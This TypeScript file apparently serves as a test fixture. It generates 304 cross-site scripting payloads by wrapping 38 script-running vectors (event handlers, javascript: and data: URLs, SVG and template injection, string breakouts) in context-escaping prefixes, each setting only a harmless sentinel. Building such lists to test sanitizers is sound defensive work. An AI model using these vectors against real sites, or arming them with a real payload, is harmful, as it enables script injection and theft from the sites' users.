/** What a payload runs where it runs: the sentinel is set. */
const run = 'top.sentinel=1';

/** Ways of getting a script run. */
const vectors = [
  `<script>${run}</script>`,
  `<ScRiPt >${run}</ScRiPt >`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}">`,
  `<IMG SRC=x ONERROR=${run} //`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}//`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<body onload=${run}>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<a href="javascript:${run}" autofocus onfocus=${run}>go</a>`,
  `<form action="javascript:${run}"><button autofocus>go</button></form>`,
  `<style>@import "data:text/css,*{}";</style><style onload=${run}></style>`,
  `<link rel=stylesheet href="data:text/css,*{}" onload=${run}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href="javascript:${run}//">`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `[go](javascript:${run})`,
  `![x](x" onerror="${run})`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `';${run};//`,
  `";${run};//`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
];

/** What comes before and after one, to get out of wherever it was put. */
const around: [before: string, after: string][] = [
  ['', ''],
  ['">', '<"'],
  ["'>", "<'"],
  ['</textarea></title></style></script>', ''],
  ['--><!--', '-->'],
  [']]>', '<![CDATA['],
  ['\u202e\u0000', '\u2028'],
  ['</option></select></button></a>', '<b>'],
];

/** 304 texts that would run a script in a page that takes text for markup, an address or code. */
export const payloads: string[] = around.flatMap(([before, after]) =>
  vectors.map((vector) => `${before}${vector}${after}`),
);
